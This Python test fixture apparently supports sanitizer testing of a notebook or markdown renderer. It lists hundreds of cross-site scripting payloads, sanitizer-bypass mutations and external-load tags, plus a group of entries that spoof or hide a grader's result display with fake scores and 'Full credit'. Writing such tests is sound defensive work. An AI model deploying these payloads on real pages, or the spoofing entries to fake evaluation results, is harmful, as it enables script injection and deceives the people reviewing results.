"""Texts by which a page was once made to run a script or to load something, by kind.

``hit(…)`` is a function that the test's browser has, and ``URL`` an address where somebody listens.
Each was written for this test; the kinds are those of public lists (OWASP's on cross-site scripting,
the mutations that sanitizers were passed by, nbconvert's and Jupyter's own).
"""

from __future__ import annotations

from itertools import product

_HANDLERS = ("onerror", "onload", "onclick", "onfocus", "ontoggle", "onbegin", "onanimationstart")
_ADDRESSES = (
    "javascript:hit(1)", "JaVaScRiPt:hit(1)", " javascript:hit(1)", "java\tscript:hit(1)",
    "java&#10;script:hit(1)", "javascript&colon;hit(1)", "&#106;avascript:hit(1)",
    "&#x6A&#x61vascript:hit(1)", "\x01javascript:hit(1)", "vbscript:hit(1)",
    "data:text/html,<script>parent.hit(1)</script>", "data:text/html;base64,PHNjcmlwdD4=",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='hit(1)'/>",
    "view-source:javascript:hit(1)", "blob:x", "feed:javascript:hit(1)",
)  # fmt: skip

_SCRIPTS = [
    "<script>hit(1)</script>", "<SCRIPT SRC=URL/s.js></SCRIPT>", "<script/x>hit(1)</script>",
    "<scr<script>ipt>hit(1)</scr</script>ipt>", "<<script>hit(1)//<</script>",
    "<script>hit(1)", "<script\n>hit(1)</script\n>", "<svg><script>hit(1)</script></svg>",
    "<svg><script href=URL/s.js /></svg>", "<svg><script xlink:href=data:,hit(1) /></svg>",
    "<math><script>hit(1)</script></math>", "<script type=module>hit(1)</script>",
    "<script type=text/x-mathjax-config>hit(1)</script>", "\u2028<script>hit(1)</script>",
    "<template><script>hit(1)</script></template>", "<noscript><script>hit(1)</script></noscript>",
    "<script>hit(1)</script x='</pre></div></div><script>hit(2)</script>'>",
]  # fmt: skip

_HANDLED = [
    f"<{tag} {handler}=hit(1)>x" for tag, handler in product(
        ("img src=x", "svg", "body", "details open", "input autofocus", "video src=x", "a href=#"),
        _HANDLERS,
    )
] + [
    '<img src="x" onerror="hit(1)">', "<img src=x onerror='hit(1)'", "<img/src=x/onerror=hit(1)>",
    "<img src=x\tonerror=hit(1)>", "<img src=x\fonerror=hit(1)>", "<img src=`x`onerror=hit(1)>",
    '<img """><script>hit(1)</script>">', "<img src=x onerror&#61;hit(1)>", "<IMG SRC=x OnErRoR=hit(1)>",
    "<img src=x:x onerror=&#104;&#105;&#116;(1)>", "<image src=x onerror=hit(1)>",
    "<svg><animate onbegin=hit(1) attributeName=x dur=1s>", "<svg><set onbegin=hit(1)>",
    "<svg><image href=x onerror=hit(1)>", "<svg><use href='data:image/svg+xml,<svg id=x/>#x'>",
    "<svg><foreignObject><img src=x onerror=hit(1)></foreignObject></svg>",
    "<marquee onstart=hit(1)>x</marquee>", "<audio src=x onerror=hit(1)>", "<object data=x onerror=hit(1)>",
    "<video><source onerror=hit(1)></video>", "<style onload=hit(1)></style>", "<iframe onload=hit(1)>",
    "<iframe srcdoc='<script>parent.hit(1)</script>'>", "<x onfocus=hit(1) tabindex=1 autofocus>",
    "<b popover id=p onbeforetoggle=hit(1)>x</b><button popovertarget=p>y</button>",
    "<p style='animation:spin' onanimationend=hit(1)>x",
]  # fmt: skip

_LINKS = [
    form.replace("ADDRESS", address) for form, address in product(
        ("<a href=\"ADDRESS\">x</a>", "[x](<ADDRESS>)", "<form action=\"ADDRESS\"><button>y</button></form>"),
        _ADDRESSES,
    )
] + [
    "[x](javascript:hit(1))", "[x](javascript&#58;hit(1))", "[x]\n\n[x]: javascript:hit(1)",
    "<javascript:hit(1)>", "![x](javascript:hit(1))", "![x](x\"onerror=\"hit(1))",
    "![x](x 'y\"onerror=\"hit(1)')", "[x](<javascript:hit(1)> \"t\")", "[a](j\na\nvascript:hit(1))",
    "<svg><a xlink:href=javascript:hit(1)><text y=9>x</text></a></svg>",
    "<math href=javascript:hit(1)>x</math>", "<isindex action=javascript:hit(1) type=image>",
    "<area href=javascript:hit(1) shape=default>", "<base href=javascript:hit(1)//><a href=x>y</a>",
    "$\\href{javascript:hit(1)}{x}$", "$$\\unicode{<img src=x onerror=hit(1)>}$$",
    "`<img src=x onerror=hit(1)>`", "```\n</code></pre><img src=x onerror=hit(1)>\n```",
    "```\"><img src=x onerror=hit(1)>\nx\n```", "|<img src=x onerror=hit(1)>|\n|-|\n|y|",
    "&lt;img src=x onerror=hit(1)&gt;", "\\<img src=x onerror=hit(1)>", "<!-- --!><img src=x onerror=hit(1)>",
    "<div\n\nonclick=hit(1)>x", "<details><summary onclick=hit(1)>x</summary></details>",
]  # fmt: skip

# Harmless as text, and something else when what a parser made of it is parsed again.
_MUTATIONS = [
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=x onerror=hit(1)&gt;\">",
    "<svg></p><style><a id=\"</style><img src=x onerror=hit(1)>\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=hit(1)>",
    "<noscript><p title=\"</noscript><img src=x onerror=hit(1)>\">",
    "<listing>&lt;img src=x onerror=hit(1)&gt;</listing>",
    "<xmp><p title=\"</xmp><img src=x onerror=hit(1)>\">", "<plaintext><img src=x onerror=hit(1)>",
    "<textarea><p title=\"</textarea><img src=x onerror=hit(1)>\">",
    "<title><p title=\"</title><img src=x onerror=hit(1)>\">",
    "<svg><style>&lt;img src=x onerror=hit(1)&gt;</style></svg>",
    "<svg><title><p><style><!--</style><img src=x onerror=hit(1)>--></style>",
    "<svg><desc><a title=\"</desc><img src=x onerror=hit(1)>\">",
    "<math><annotation-xml encoding=text/html><img src=x onerror=hit(1)></annotation-xml></math>",
    "<math><annotation-xml encoding=\"application/xhtml+xml\"><style><img src=x onerror=hit(1)>",
    "<select><template><img src=x onerror=hit(1)></template></select>",
    "<select><iframe></select><img src=x onerror=hit(1)>", "<table><select><img src=x onerror=hit(1)>",
    "<template shadowrootmode=open><img src=x onerror=hit(1)></template>",
    "<p title=\"`&quot;><img src=x onerror=hit(1)>\">x", "<b title='&lt;img src=x onerror=hit(1)&gt;'>x",
    "<![CDATA[<img src=x onerror=hit(1)>]]>", "<svg><![CDATA[><img src=x onerror=hit(1)>]]></svg>",
    "<?xml <img src=x onerror=hit(1)>?>", "<!DOCTYPE x [<!ENTITY y '<img src=x onerror=hit(1)>']>&y;",
    "<!--><img src=x onerror=hit(1)>-->", "<!---><img src=x onerror=hit(1)>", "</p/><img src=x onerror=hit(1)>",
    "<table><a><td><b><img src=x onerror=hit(1)></table>", "<a><table><a><img src=x onerror=hit(1)>",
    "<div>" * 70 + "<svg><p><style><g title='</style><img src=x onerror=hit(1)>'>",
    "<frameset onload=hit(1)>", "</div></section></main></body><script>hit(1)</script>",
    "</pre></div></div></div><img src=x onerror=hit(1)>", "\ufeff<img src=x onerror=hit(1)>",
    "<img\x00 src=x onerror=hit(1)>", "<im\x00g src=x onerror=hit(1)>", "\uff1cimg src=x onerror=hit(1)\uff1e",
    "<div><pre>&lt;/pre>\n<img src=x onerror=hit(1)></pre></div>", "<img alt='picture:0' src=picture:0 onerror=hit(1)>",
    "mark-00000000000000000000000000000000-0-", "{{ 7*7 }}{% print(hit) %}{# x #}",
    "{{ resources.update({'x': 1}) }}<img src=x onerror=hit(1)>",
]  # fmt: skip

_LOADS = [
    "![x](URL/i.png)", "<img src=URL/i.png>", "<img srcset='URL/i.png 1x'>", "<img lowsrc=URL/i>",
    "<picture><source srcset=URL/i.png><img></picture>", "<input type=image src=URL/i>",
    "<link rel=stylesheet href=URL/c.css>", "<link rel=prefetch href=URL/p>", "<link rel=preload as=image href=URL/p>",
    "<link rel=dns-prefetch href=URL>", "<link rel=preconnect href=URL>", "<link rel=icon href=URL/f>",
    "<link rel=modulepreload href=URL/m.js>", "<style>@import 'URL/c.css';</style>",
    "<style>body{background:url(URL/b)}</style>", "<p style='background:url(URL/b)'>x",
    "<p style=\"background-image:image-set('URL/b' 1x)\">x", "<table background=URL/b><td>x", "<body background=URL/b>",
    "<style>@font-face{font-family:x;src:url(URL/f)}*{font-family:x}</style>",
    "<iframe src=URL/x></iframe>", "<frame src=URL/x>", "<embed src=URL/x>", "<object data=URL/x></object>",
    "<applet code=URL/x></applet>", "<video src=URL/v autoplay></video>", "<video poster=URL/v></video>",
    "<audio src=URL/a autoplay></audio>", "<track src=URL/t>", "<meta http-equiv=refresh content='0;url=URL/m'>",
    "<svg><image href=URL/i></svg>", "<svg><use href=URL/u#x></svg>", "<svg><feImage href=URL/i></svg>",
    "<svg><rect fill='url(URL/f#x)'/></svg>", "<math><mglyph src=URL/i></math>", "<bgsound src=URL/s>",
    "<form action=URL/f><input autofocus></form>", "<a ping=URL/p href=URL/a>x</a>", "<base href=URL/>",
    "<html manifest=URL/m>", "<portal src=URL/p>", "<fencedframe src=URL/p>", "<img src=//LISTEN/i>",
    "<img src='http:/LISTEN/i'>", "[![x](URL/i.png)](URL/a)", "![x][r]\n\n[r]: URL/i.png",
    "<script type=speculationrules>{\"prefetch\":[{\"urls\":[\"URL/x\"]}]}</script>",
    "<b style=\"-moz-binding:url(URL/x)\">x</b>", "<p style='cursor:url(URL/c),auto'>x",
    "<svg><style>@import 'URL/c'</style></svg>", "<template shadowrootmode=open><img src=URL/i></template>",
    "$$\\includegraphics{URL/i.png}$$", "\x1b]8;;URL/x\x07y\x1b]8;;\x07", "<object type=text/html data=URL/x>",
]  # fmt: skip

# Over the page's own words, or as if they were them.
_MISLEADING = [
    "<style>.alpaca-result{display:none}</style>", "<p style=position:fixed;inset:0;z-index:9>100 points</p>",
    "<div class=alpaca-verdict><table class=table><tr class=alpaca-verdict-passed><td>passed</table></div>",
    "<section class=alpaca-result id=test_double>100 points</section>", "<p id=top>x</p>",
    "<input name=score id=test_double value=100>", "<button onclick=hit(1)>Full credit</button>",
    "<textarea id=double-comment class=comment>x</textarea>", "\u202e0 fo 001\u202c",
]  # fmt: skip

ALL = [*_SCRIPTS, *_HANDLED, *_LINKS, *_MUTATIONS, *_LOADS, *_MISLEADING]

FORMS = (
    "text/html", "text/markdown", "text/latex", "text/plain", "image/svg+xml", "image/png", "image/jpeg",
    "image/gif", "application/javascript", "text/javascript", "application/json", "application/pdf",
    "application/vnd.jupyter.widget-view+json", "application/vnd.vega.v5+json", "text/vnd.mermaid",
)  # fmt: skip


def payloads(address: str) -> list[str]:
    """All of them, with ``address`` (``http://host:port``) to load from."""
    return [
        text.replace("URL", address).replace("LISTEN", address.removeprefix("http://"))
        for text in ALL
    ]
